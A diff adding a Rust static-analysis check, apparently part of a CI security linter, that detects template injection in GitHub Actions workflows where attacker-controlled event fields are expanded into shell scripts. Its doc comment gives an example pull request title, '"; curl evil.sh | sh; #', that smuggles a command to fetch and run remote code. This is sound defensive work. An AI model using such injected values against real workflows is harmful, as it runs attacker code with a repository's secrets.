@@ -1,0 +1,221 @@
+use annexa_github::expressions_in;
+use annexa_model::pipeline::{Job, Site, Step, StepAction};
+use annexa_model::{Outcome, Platform, Span};
+use github_actions_expressions::Expr;
+
+use crate::check::{Check, PipelineCx, Sink, check};
+
+check! {
+    /// ## What it does
+    /// Finds `${{ ... }}` expressions that expand attacker-controlled text — issue and pull
+    /// request titles and bodies, comments, branch names, commit messages — directly into a
+    /// shell script (`run:`) or into the code of `actions/github-script`.
+    ///
+    /// ## Why is this bad?
+    /// Expressions are substituted into the script *before* the shell runs it. A pull request
+    /// titled `"; curl evil.sh | sh; #` becomes part of your script and runs with the job's
+    /// token and secrets. Values that cannot carry code (SHAs, numbers, ids,
+    /// `steps.*.outcome`) are not reported. Step and job outputs (`steps.*.outputs.*`,
+    /// `needs.*.outputs.*`) may carry anything, so a script that expands them is `unknown`
+    /// rather than passed. `env.X` is followed when `X` is set from an attacker-controlled
+    /// value in the same file.
+    ///
+    /// ## Example
+    /// ```yaml
+    /// on: issues
+    /// jobs:
+    ///   triage:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: echo "New issue: ${{ github.event.issue.title }}"
+    /// ```
+    ///
+    /// ## Fix
+    /// Pass the value through an environment variable, which the shell treats as data:
+    /// ```yaml
+    ///       - run: echo "New issue: $TITLE"
+    ///         env:
+    ///           TITLE: ${{ github.event.issue.title }}
+    /// ```
+    pub struct TemplateInjection {
+        id: TemplateInjection,
+        summary: "attacker-controlled value expanded into code",
+        severity: High,
+        confidence: High,
+        scope: Pipeline,
+        platforms: &[Platform::GithubActions],
+        controls: [A8_28, A8_25],
+    }
+}
+
+/// Contexts whose value an outsider chooses (lower-case patterns; `*` is any one segment).
+const ATTACKER_CONTROLLED: &[&str] = &[
+    "github.event.issue.title",
+    "github.event.issue.body",
+    "github.event.pull_request.title",
+    "github.event.pull_request.body",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.label",
+    "github.event.pull_request.head.repo.default_branch",
+    "github.event.comment.body",
+    "github.event.review.body",
+    "github.event.review_comment.body",
+    "github.event.discussion.title",
+    "github.event.discussion.body",
+    "github.event.pages.*.page_name",
+    "github.event.commits.*.message",
+    "github.event.commits.*.author.email",
+    "github.event.commits.*.author.name",
+    "github.event.head_commit.message",
+    "github.event.head_commit.author.email",
+    "github.event.head_commit.author.name",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.head_commit.message",
+    "github.event.workflow_run.head_commit.author.email",
+    "github.event.workflow_run.head_commit.author.name",
+    "github.event.workflow_run.pull_requests.*.head.ref",
+    "github.head_ref",
+];
+
+/// Contexts that carry whatever an earlier step produced: cannot be judged from the file.
+const OPAQUE: &[&str] = &["steps.*.outputs", "needs.*.outputs", "jobs.*.outputs"];
+
+fn segments_match(a: &[&str], b: &[&str]) -> bool {
+    a.iter().zip(b).all(|(x, y)| x == y || *x == "*" || *y == "*")
+}
+
+/// Whether `ctx` is, contains or lies inside a value in `patterns`.
+fn overlaps(ctx: &str, patterns: &[&str]) -> bool {
+    let c: Vec<&str> = ctx.split('.').collect();
+    patterns.iter().any(|p| {
+        let p: Vec<&str> = p.split('.').collect();
+        segments_match(&c, &p)
+    })
+}
+
+enum Verdict {
+    Attacker(String),
+    Opaque(String),
+    Safe,
+}
+
+struct Tainted(Vec<String>);
+
+fn judge(body: &str, tainted_env: &Tainted) -> Verdict {
+    let Ok(expr) = Expr::parse(body) else {
+        return Verdict::Opaque(format!("the expression `{body}` could not be parsed"));
+    };
+    let mut opaque = None;
+    for (ctx, _) in expr.dataflow_contexts() {
+        let Some(pattern) = ctx.as_pattern() else {
+            opaque.get_or_insert_with(|| format!("`{body}` is computed"));
+            continue;
+        };
+        if overlaps(&pattern, ATTACKER_CONTROLLED) {
+            return Verdict::Attacker(pattern);
+        }
+        if let Some(var) = pattern.strip_prefix("env.")
+            && tainted_env.0.iter().any(|t| t.eq_ignore_ascii_case(var))
+        {
+            return Verdict::Attacker(pattern);
+        }
+        if OPAQUE.iter().any(|o| overlaps(&pattern, &[o]) && pattern.split('.').count() >= o.split('.').count()) {
+            opaque.get_or_insert_with(|| format!("`{pattern}` may carry anything an earlier step produced"));
+        }
+    }
+    opaque.map_or(Verdict::Safe, Verdict::Opaque)
+}
+
+/// Environment variables (any level of this file) set from attacker-controlled values.
+fn tainted_env(cx: &PipelineCx<'_>, job: &Job, step: &Step) -> Tainted {
+    let vars = cx.pipeline.variables.iter().chain(&job.variables).chain(&step.variables);
+    Tainted(
+        vars.filter(|v| expressions_in(&v.value).iter().any(|e| matches!(judge(e.body, &Tainted(Vec::new())), Verdict::Attacker(_))))
+            .map(|v| v.name.clone())
+            .collect(),
+    )
+}
+
+/// The byte span of the `n`-th occurrence of `needle` inside the element at `site`.
+fn find_in_site(source: &str, site: &Site, needle: &str, nth: usize) -> Option<Span> {
+    let s = site.span?;
+    let hay = source.get(s.start..s.end)?;
+    let (i, _) = hay.match_indices(needle).nth(nth)?;
+    Some(Span { start: s.start + i, end: s.start + i + needle.len() })
+}
+
+impl Check for TemplateInjection {
+    fn meta(&self) -> &'static annexa_model::CheckMeta {
+        &Self::META
+    }
+
+    fn pipeline(&self, cx: &PipelineCx<'_>, out: &mut Sink) {
+        let mut any = false;
+        for (job, step) in cx.pipeline.steps() {
+            let code: Vec<(&str, &Site, &str)> = match &step.action {
+                StepAction::Run { script, site, .. } => vec![(script.as_str(), site, "the shell script")],
+                StepAction::Uses { target, inputs } if target.name.eq_ignore_ascii_case("actions/github-script") => inputs
+                    .iter()
+                    .filter(|i| i.name == "script")
+                    .map(|i| (i.value.as_str(), &i.site, "the github-script code"))
+                    .collect(),
+                _ => Vec::new(),
+            };
+            for (text, site, what) in code {
+                let exprs = expressions_in(text);
+                if exprs.is_empty() {
+                    continue;
+                }
+                any = true;
+                let tainted = tainted_env(cx, job, step);
+                let mut unknown = None;
+                let mut failed = false;
+                for (n, e) in exprs.iter().enumerate() {
+                    let raw = &text[e.start..e.end];
+                    let nth = exprs[..n].iter().filter(|p| &text[p.start..p.end] == raw).count();
+                    match judge(e.body, &tainted) {
+                        Verdict::Attacker(ctx) => {
+                            failed = true;
+                            let span = find_in_site(cx.source, site, raw, nth);
+                            out.at_span(cx.file, site, span, Outcome::Fail, format!("`{ctx}` is attacker-controlled and is expanded into {what} of step `{}`", step.label()));
+                        }
+                        Verdict::Opaque(why) => {
+                            unknown.get_or_insert(why);
+                        }
+                        Verdict::Safe => {}
+                    }
+                }
+                if failed {
+                    continue;
+                }
+                match unknown {
+                    Some(why) => out.at(cx.file, site, Outcome::Unknown, format!("cannot tell whether {what} of step `{}` is safe: {why}", step.label())),
+                    None => out.at(cx.file, site, Outcome::Pass, format!("expressions in {what} of step `{}` carry no attacker-controlled value", step.label())),
+                };
+            }
+        }
+        if !any {
+            out.file(cx.file, Outcome::NotRelevant, "no expressions expanded into scripts");
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn judges_contexts() {
+        let none = Tainted(Vec::new());
+        assert!(matches!(judge("github.event.issue.title", &none), Verdict::Attacker(_)));
+        assert!(matches!(judge("github.event.commits[0].message", &none), Verdict::Attacker(_)));
+        assert!(matches!(judge("toJSON(github.event)", &none), Verdict::Attacker(_)));
+        assert!(matches!(judge("github.event.pull_request.head.sha", &none), Verdict::Safe));
+        assert!(matches!(judge("github.event.pull_request.number", &none), Verdict::Safe));
+        assert!(matches!(judge("steps.build.outcome", &none), Verdict::Safe));
+        assert!(matches!(judge("steps.meta.outputs.tags", &none), Verdict::Opaque(_)));
+        assert!(matches!(judge("github.event.issue.title == 'x'", &none), Verdict::Safe));
+        let t = Tainted(vec!["TITLE".into()]);
+        assert!(matches!(judge("env.TITLE", &t), Verdict::Attacker(_)));
+    }
+}
